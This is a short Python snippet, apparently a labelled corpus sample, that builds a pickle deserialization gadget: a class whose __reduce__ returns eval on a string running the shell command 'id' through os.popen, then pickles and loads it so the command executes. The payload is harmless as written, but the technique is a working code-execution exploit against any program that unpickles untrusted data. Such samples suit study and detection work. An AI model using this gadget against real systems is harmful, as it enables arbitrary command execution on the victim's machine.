# corpus: __reduce__ gadget returning (builtins.eval, (src,)) so loading evaluates attacker code
import builtins
import pickle

class Gadget:
    def __reduce__(self):
        return (builtins.eval, ("__import__('os').popen('id').read()",))

print(pickle.loads(pickle.dumps(Gadget(), protocol=2)))
